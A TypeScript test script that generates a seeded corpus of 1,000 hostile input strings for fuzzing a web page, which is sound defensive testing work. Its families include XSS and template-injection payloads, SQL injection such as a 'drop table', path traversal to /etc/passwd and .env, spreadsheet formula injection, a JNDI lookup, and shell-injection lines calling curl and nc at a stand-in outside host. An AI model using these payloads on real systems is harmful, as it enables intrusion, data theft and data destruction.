/**
 * A thousand strings that people and programs send to break a page, made by a seed: the same thousand on every machine.
 * `node test/hostile-corpus.ts` writes them to test/fixtures/hostile-strings.json.
 *
 * Each family is a list of forms; `CANARY` stands for a script that sets a global, `OUT` for an address outside of the
 * origin. What runs or asks for either was let through.
 */
import { writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

export const COUNT = 1000;
const SEED = 20_261_121;
/** Where every outside address of the corpus lies; nothing listens there. */
export const OUTSIDE = 'outside.invalid';
const CANARY = 'window.__hostile=(window.__hostile||0)+1';
const OUT = `//${OUTSIDE}`;

const HANDLERS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin'];
const TAGS = ['img', 'svg', 'body', 'details', 'video', 'audio', 'input', 'iframe', 'object', 'embed', 'marquee', 'a', 'math', 'form'];
const ENTITY = (text: string) => [...text].map((sign) => `&#x${sign.codePointAt(0)!.toString(16)};`).join('');
const HOST_NAMES = ['Marit', 'Marit de Wael', 'Host', 'Moderator', 'Etalage', 'Atelier Vuur', 'Support', 'Joris Staff'];
const LOOKALIKE: Readonly<Record<string, string>> = {
  a: 'а',
  e: 'е',
  o: 'ο',
  i: 'і',
  r: 'г',
  t: 'т',
  M: 'Μ',
  H: 'Н',
  s: 'ѕ',
  l: '1',
  E: 'Ε',
};

type Random = () => number;
type Family = (random: Random) => string;

/** Mulberry32: small, and the same everywhere. */
function seeded(seed: number): Random {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}
const one = <T>(random: Random, all: readonly T[]): T => all[Math.floor(random() * all.length)]!;
const number = (random: Random, below: number) => Math.floor(random() * below);
const repeat = (random: Random, signs: readonly string[], least: number, most: number) =>
  Array.from({ length: least + number(random, most - least) }, () => one(random, signs)).join('');
const mixCase = (random: Random, text: string) => [...text].map((sign) => (random() < 0.5 ? sign.toUpperCase() : sign)).join('');

const FAMILIES: Readonly<Record<string, Family>> = {
  script: (r) =>
    one(r, [
      `<script>${CANARY}</script>`,
      `<${mixCase(r, 'script')}>${CANARY}</${mixCase(r, 'script')}>`,
      `<script src="${OUT}/${number(r, 999)}.js"></script>`,
      `</title></textarea></style><script>${CANARY}</script>`,
      `<scr<script>ipt>${CANARY}</scr</script>ipt>`,
      `<script type="module">import("${OUT}/m${number(r, 999)}.js")</script>`,
      `"'><script>${CANARY}//${number(r, 999)}</script>`,
    ]),
  handler: (r) => `<${one(r, TAGS)} src=x${number(r, 99)} ${one(r, HANDLERS)}=${one(r, ['', '"', "'", '`'])}${CANARY}`,
  handlerOutside: (r) => `"><${one(r, TAGS)} ${one(r, HANDLERS)}="fetch('${OUT}/${number(r, 9999)}')" src=${OUT}/${number(r, 9999)}.png>`,
  svg: (r) =>
    one(r, [
      `<svg/onload=${CANARY}>`,
      `<svg><animate attributeName=href values=javascript:${CANARY} /><a><text y=2>${number(r, 999)}</text></a>`,
      `<svg><image href="${OUT}/${number(r, 999)}.svg"/></svg>`,
      `<svg><use href="data:image/svg+xml,<svg id=x onload=${CANARY}>#x"/></svg>`,
      `<math><mtext></form><form><mglyph><style></math><img src onerror=${CANARY}>`,
    ]),
  url: (r) =>
    one(r, [
      `javascript:${CANARY}//${number(r, 999)}`,
      `java\tscript:${CANARY}`,
      `data:text/html,<script>${CANARY}</script>`,
      `data:text/html;base64,${Buffer.from(`<script>${CANARY}</script>${number(r, 999)}`).toString('base64')}`,
      `vbscript:msgbox(${number(r, 999)})`,
      `blob:https://${OUTSIDE}/${number(r, 99_999)}`,
      `https:${OUT}/%0d%0aSet-Cookie:x=${number(r, 999)}`,
      `file:///etc/passwd?${number(r, 999)}`,
    ]),
  css: (r) =>
    one(r, [
      `<style>*{background:url(${OUT}/${number(r, 999)})}</style>`,
      `<div style="background:url(${OUT}/${number(r, 999)});position:fixed;inset:0">`,
      `x;background:url('${OUT}/${number(r, 999)}')`,
      `@import '${OUT}/${number(r, 999)}.css';`,
      `<link rel=stylesheet href=${OUT}/${number(r, 999)}.css>`,
      `expression(${CANARY})`,
    ]),
  embed: (r) =>
    one(r, [
      `<iframe srcdoc="<script>parent.__hostile=1</script>"></iframe>`,
      `<iframe src="${OUT}/${number(r, 999)}"></iframe>`,
      `<object data="${OUT}/${number(r, 999)}.swf"></object>`,
      `<meta http-equiv=refresh content="0;url=https:${OUT}/${number(r, 999)}">`,
      `<base href="https:${OUT}/${number(r, 999)}/">`,
      `<form action="https:${OUT}"><input name=q autofocus onfocus=${CANARY}><button>`,
    ]),
  entities: (r) =>
    one(r, [
      ENTITY(`<img src=x onerror=${CANARY}>`),
      `&lt;script&gt;${CANARY}&lt;/script&gt;`,
      `&#60;b&#62;${number(r, 999)}`,
      '&nbsp;&zwj;&#0;&#x110000;',
    ]),
  template: (r) =>
    one(r, [
      `{{constructor.constructor('${CANARY}')()}}`,
      `\${${CANARY}}`,
      `#{${number(r, 99)}*${number(r, 99)}}`,
      `<%= ${CANARY} %>`,
      `{{${number(r, 99)}*${number(r, 99)}}}`,
      `[[\${T(java.lang.Runtime).getRuntime().exec('id')}]]`,
      `%7B%7B${number(r, 999)}%7D%7D`,
    ]),
  markdown: (r) =>
    one(r, [
      `[click](javascript:${CANARY})`,
      `![x](${OUT}/${number(r, 999)}.png)`,
      `<javascript:${CANARY}>`,
      `[a]: https:${OUT}/${number(r, 999)}`,
      '```\n</pre><script>' + CANARY + '</script>\n```',
      `[x](data:text/html;base64,PHNjcmlwdD4=${number(r, 999)})`,
    ]),
  controls: (r) =>
    `a${repeat(r, ['\u0000', '\u0001', '\u0007', '\u0008', '\u001b[31m', '\u007f', '\u0085', '\u2028', '\u2029', '\r\n', '\u000b'], 1, 12)}b`,
  bidi: (r) =>
    `${repeat(r, ['\u202e', '\u202d', '\u202a', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c'], 1, 8)}${one(r, ['gpj.exe', 'Marit', '€79.00', 'paid 100'])}${repeat(r, ['\u202c', '\u2069', ''], 0, 3)}`,
  zalgo: (r) =>
    [...one(r, ['Hello', 'Marit', 'pan'])]
      .map((sign) => sign + repeat(r, ['\u0300', '\u0316', '\u0489', '\u035c', '\u0361', '\u20dd'], 1, 24))
      .join(''),
  joiners: (r) =>
    one(r, ['👨', '🏳️', '❤️', '🧑', 'x']) +
    repeat(r, ['\u200d👩', '\u200d👧', '\u200d🌈', '\u200d', '\ufe0f', '🏽', '\u200b', '\ufeff', '\u2060'], 1, 20),
  surrogates: (r) => `s${repeat(r, ['\ud800', '\udfff', '\udbff', '\udc00', '😀'], 1, 8)}e`,
  tags: (r) =>
    `🏴${repeat(
      r,
      [...'abcdefghij'].map((sign) => String.fromCodePoint(0xe0000 + sign.codePointAt(0)!)),
      3,
      20,
    )}`,
  longWord: (r) => repeat(r, one(r, [['A'], ['W'], ['ﷺ'], ['𒐫'], ['_'], ['ä', 'ö'], ['漢'], ['👩‍👩‍👧‍👦']]), 80, 299),
  lines: (r) => `${repeat(r, ['\n', '\n\n', ' ', '\t', '\u00a0', '\u3000'], 5, 80)}x${number(r, 999)}`,
  formula: (r) =>
    one(r, ['=', '+', '-', '@', '\t=', '\r=']) +
    one(r, [
      `HYPERLINK("https:${OUT}/${number(r, 999)}","x")`,
      `cmd|' /C calc'!A${number(r, 99)}`,
      `IMPORTXML("https:${OUT}","//a")`,
      `SUM(1+${number(r, 99)})*cmd|' /C calc'!A0`,
    ]),
  sql: (r) =>
    one(r, [
      `'; drop table chat_lines; -- ${number(r, 999)}`,
      `' or 1=1 -- ${number(r, 999)}`,
      `"; select pg_sleep(${number(r, 9)}); --`,
      `\\'; update orders set total_minor=0; --`,
      `$$; select ${number(r, 999)}; $$`,
      `') on conflict do nothing; --${number(r, 99)}`,
    ]),
  json: (r) =>
    one(r, [
      `","label":"host","x":"${number(r, 99)}`,
      `\\u0022,\\u0022label\\u0022:\\u0022host\\u0022`,
      `{"k":"chat.hidden","d":{"id":"${number(r, 99)}"}}`,
      `\\"}]}{"bye":4000}`,
      `\\ud83d\\u0000${number(r, 99)}`,
    ]),
  keys: (r) =>
    one(r, [
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      '__defineGetter__',
      'valueOf',
      'then',
      'null',
      'undefined',
      'NaN',
      '[object Object]',
    ]) + one(r, ['', `[${number(r, 99)}]`, `.polluted${number(r, 99)}`, '=1']),
  paths: (r) =>
    one(r, ['../', '..\\', '%2e%2e/', '....//']).repeat(1 + number(r, 8)) + one(r, ['etc/passwd', 'windows/win.ini', '.env', 'api/me']),
  shell: (r) =>
    one(r, [
      `$(curl ${OUTSIDE}/${number(r, 99)})`,
      `\`id ${number(r, 99)}\``,
      `| nc ${OUTSIDE} ${number(r, 9999)}`,
      `&& ping -c1 ${OUTSIDE}`,
      `\${jndi:ldap:${OUT}/${number(r, 999)}}`,
    ]),
  rightToLeft: (r) =>
    `${one(r, ['محمد', 'דוד', 'فاطمة', 'שרה', 'ܡܪܝܡ', 'އަލީ'])} ${one(r, ['مضيف', 'מארח', 'Host', '123', '<b>'])}${number(r, 99)}`,
  lookAlike: (r) =>
    [...one(r, HOST_NAMES)].map((sign) => (random05(r) ? (LOOKALIKE[sign] ?? sign) : sign)).join('') +
    one(r, ['', ' ', '\u200b', '.', ' ✓', ' ✔️', '\u00a0', ' (Host)', '｜Host']),
  fullWidth: (r) =>
    [...one(r, [`<img src=x onerror=${CANARY}>`, 'Host', `<script>${number(r, 99)}</script>`])]
      .map((sign) => (sign > ' ' && sign <= '~' ? String.fromCodePoint(sign.codePointAt(0)! + 0xfee0) : sign))
      .join(''),
  mentions: (r) => repeat(r, ['@Marit ', '@', '@(.*)+ ', '@[a-z]{999} ', '@\\', '@$& ', '@<b> '], 2, 30),
  numbers: (r) =>
    one(r, ['1e309', '-0', '0x7fffffffffffffff', '9'.repeat(60), '1/0', '٣٤٥', '½', '−1', '1_000']) + (random05(r) ? '' : number(r, 999)),
};
const random05 = (random: Random) => random() < 0.5;

/** Every family in turn, each string once. */
export function hostileStrings(): string[] {
  const random = seeded(SEED);
  const found = new Set<string>();
  const families = Object.values(FAMILIES);
  for (let nr = 0; found.size < COUNT; nr += 1) found.add(families[nr % families.length]!(random));
  return [...found];
}

export const FIXTURE = fileURLToPath(new URL('./fixtures/hostile-strings.json', import.meta.url));
if (process.argv[1] === fileURLToPath(import.meta.url)) writeFileSync(FIXTURE, `${JSON.stringify(hostileStrings(), null, 1)}\n`);
